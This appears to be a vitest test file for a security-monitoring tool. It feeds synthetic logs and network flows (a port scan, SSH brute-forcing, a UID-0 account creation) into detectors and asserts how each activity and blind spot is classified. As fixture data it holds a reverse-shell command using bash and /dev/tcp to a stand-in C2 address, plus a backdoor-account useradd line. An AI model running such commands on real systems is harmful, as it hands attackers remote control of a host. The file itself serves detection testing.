// One synthetic case per visibility class and per blind-spot kind, each asserting the exact
// class the correlation gives (records inserted directly; the real detectors and correlation run).
import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeDb, getPool, getPrisma } from '../lib/db/client';
import { mapHostManually } from '../lib/hosts/host-rows';
import { analyzeAssessment } from '../lib/pipeline/analyze';
import { getBlindSpots } from '../lib/queries/get-blind-spots';
import type { LogRecord } from '../lib/records/records';
import { LogRollup } from '../lib/records/rollups';
import { buildAssessmentJson } from '../lib/report/assessment-json';
import { insertEvents, insertFlows, newAssessment } from './kits/detect';

const T = Date.parse('2026-03-07T10:00:00Z');
const at = (s: number) => new Date(T + s * 1000).toISOString();
const WEB = '10.0.0.5';
const SCANNER = '198.51.100.7';
const GUESSER = '203.0.113.9';
const C2 = '192.0.2.66';

let id = '';
let doc: Awaited<ReturnType<typeof buildAssessmentJson>>;

beforeAll(async () => {
  id = await newAssessment();
  await mapHostManually(id, 'web01', WEB);
  await mapHostManually(id, 'db01', '10.0.0.6');
  await mapHostManually(id, 'quiet01', '10.0.0.8');
  // Network only, detected: a port scan nobody logged.
  await insertFlows(
    id,
    Array.from({ length: 20 }, (_, i) => ({ ts: at(60 + i), src: SCANNER, dst: WEB, dport: 1000 + i, packets: 1, bytes: 44, flags: 2 })),
  );
  // Network detected + log evidence: a second scanner whose probe the web server logged (no log detector fires on one line).
  await insertFlows(
    id,
    Array.from({ length: 20 }, (_, i) => ({ ts: at(3600 + i), src: '198.51.100.8', dst: WEB, dport: 2000 + i, packets: 1, bytes: 44, flags: 2 })),
  );
  await insertEvents(id, [{ ts: at(3605), kind: 'accept', program: 'nginx', src: '198.51.100.8', raw: 'nginx: 198.51.100.8 "GET / HTTP/1.0" 400' }]);
  // Both, detected by both: SSH guessing in the logs and in the flows (≥ 30 short sessions).
  await insertEvents(
    id,
    Array.from({ length: 40 }, (_, i) => ({ ts: at(7200 + i * 5), kind: 'ssh_failed', program: 'sshd', src: GUESSER, user: 'root', result: 'failed' })),
  );
  await insertFlows(
    id,
    Array.from({ length: 40 }, (_, i) => ({
      ts: at(7200 + i * 5),
      durationS: 3,
      src: GUESSER,
      dst: WEB,
      dport: 22,
      packets: 12,
      bytes: 2500,
      revPackets: 10,
      revBytes: 3000,
      flags: 27,
      revFlags: 27,
    })),
  );
  // Logs only, detected: an account created, no peer to see on the wire.
  await insertEvents(id, [
    {
      ts: at(9000),
      kind: 'user_add',
      program: 'useradd',
      user: 'svc-backup',
      uid: 0,
      raw: 'useradd[812]: new user: name=svc-backup, UID=0, GID=0, home=/root, shell=/bin/bash',
    },
  ]);
  // Logs detected + network evidence: a reverse shell command line, and the session it opened.
  await insertEvents(id, [{ ts: at(10_000), kind: 'exec', exe: '/bin/bash', argv: ['bash', '-c', `bash -i >& /dev/tcp/${C2}/443 0>&1`], uid: 33, euid: 33 }]);
  await insertFlows(id, [
    { ts: at(10_001), durationS: 600, src: WEB, dst: C2, dport: 443, packets: 300, bytes: 40_000, revPackets: 280, revBytes: 30_000, flags: 27, revFlags: 27 },
  ]);
  // Blind spots: db01 logs with a 3 h silence, quiet01 in flows only, a 1 h hole in the flows.
  await insertEvents(id, [
    { ts: at(100), kind: 'syslog', host: 'db01', program: 'cron' },
    { ts: at(100 + 3 * 3600), kind: 'syslog', host: 'db01', program: 'cron' },
  ]);
  await insertFlows(id, [{ ts: at(20_000), src: '10.0.0.8', dst: '10.0.0.6', dport: 5432, flags: 27 }]);
  // auditd present on web01 but no execve records there: an auditd file with only logins.
  const pool = getPool();
  const upload = crypto.randomUUID();
  const file = crypto.randomUUID();
  await getPrisma().upload.create({
    data: { id: upload, assessmentId: id, kind: 'logs', originalName: 'a.log', storedPath: '/dev/null', sizeBytes: 0n, sha256: 'x' },
  });
  await pool.query(`INSERT INTO source_file (id, assessment_id, upload_id, path, kind, format) VALUES ($1, $2, $3, 'mail01/audit.log', 'logs', 'auditd')`, [
    file,
    id,
    upload,
  ]);
  await pool.query(
    `INSERT INTO log_event (assessment_id, source_file_id, line_no, ts, host_name, kind, raw) VALUES ($1, $2, 1, $3, 'mail01', 'login', 'type=USER_LOGIN ...')`,
    [id, file, at(500)],
  );
  const rollup = new LogRollup();
  rollup.add({ tsMs: Date.parse(at(500)), hostName: 'mail01', kind: 'login' } as LogRecord);
  await rollup.flush(pool, id, file);
  await analyzeAssessment(id);
  doc = await buildAssessmentJson(id);
});

afterAll(closeDb);

const find = (pred: (a: (typeof doc.activities)[number]) => boolean) => {
  const hits = doc.activities.filter(pred);
  expect(hits, JSON.stringify(doc.activities, null, 1)).toHaveLength(1);
  return hits[0];
};

describe('visibility classes', () => {
  it('network only: a scan nobody logged', () => {
    expect(find((a) => a.peer === SCANNER)).toMatchObject({ stage: 'recon', host: 'web01', network: 'detected', logs: 'blind' });
  });
  it('network detected, logs hold evidence: the web server logged the scanner once', () => {
    expect(find((a) => a.peer === '198.51.100.8')).toMatchObject({ stage: 'recon', network: 'detected', logs: 'evidence' });
  });
  it('both detected: SSH guessing in the logs and in the flows is ONE activity', () => {
    expect(find((a) => a.peer === GUESSER && a.stage === 'exploitation')).toMatchObject({ host: 'web01', network: 'detected', logs: 'detected' });
  });
  it('logs only: an account created leaves nothing on the wire', () => {
    expect(find((a) => a.stage === 'installation')).toMatchObject({ host: 'web01', peer: null, network: 'blind', logs: 'detected' });
  });
  it('logs detected, network evidence: the reverse shell and the session it opened', () => {
    const shell = find((a) => a.peer === C2 && a.technique === 'T1059.004');
    expect(shell).toMatchObject({ host: 'web01', logs: 'detected' });
    expect(['evidence', 'detected']).toContain(shell?.network);
  });
  it('lists all seven stages, Weaponization empty', () => {
    expect(doc.stages.find((s) => s.stage === 'weaponization')).toEqual({ stage: 'weaponization', networkOnly: 0, logsOnly: 0, both: 0 });
  });
});

describe('blind spots', () => {
  it('names each kind where a source could not have seen anything', async () => {
    const spots = await getBlindSpots(id);
    const kinds = (k: string) => spots.filter((s) => s.kind === k);
    expect(kinds('host_without_logs').map((s) => s.ip)).toContain('10.0.0.8');
    expect(kinds('host_without_logs').find((s) => s.ip === '10.0.0.8')?.host).toBe('quiet01');
    expect(kinds('host_without_flows').map((s) => s.host)).toContain('mail01');
    expect(kinds('log_gap')).toEqual([expect.objectContaining({ host: 'db01', start: at(100).replace('Z', '.000Z').replace('.000.000Z', '.000Z') })]);
    expect(kinds('flow_gap').length).toBeGreaterThan(0);
    expect(kinds('audit_rules_missing')).toEqual([expect.objectContaining({ host: 'mail01' })]);
  });
});
